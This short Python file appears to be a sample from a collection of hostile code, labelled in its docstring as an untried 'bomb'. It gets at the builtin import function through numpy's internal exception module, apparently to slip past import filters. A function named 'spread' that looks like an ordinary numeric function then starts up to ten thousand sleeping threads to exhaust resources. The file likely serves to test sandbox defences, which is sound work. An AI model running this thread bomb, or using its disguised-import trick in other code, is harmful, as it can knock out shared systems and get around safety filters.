"""Family: bombs. Stock: untried. Starts ten thousand threads."""

import numpy

anything = numpy._core._exceptions.__builtins__["__import__"]

threading, time = anything("threading"), anything("time")


def spread(x):
    for _ in range(10_000):
        try:
            threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
        except RuntimeError:
            break
    return 0.0
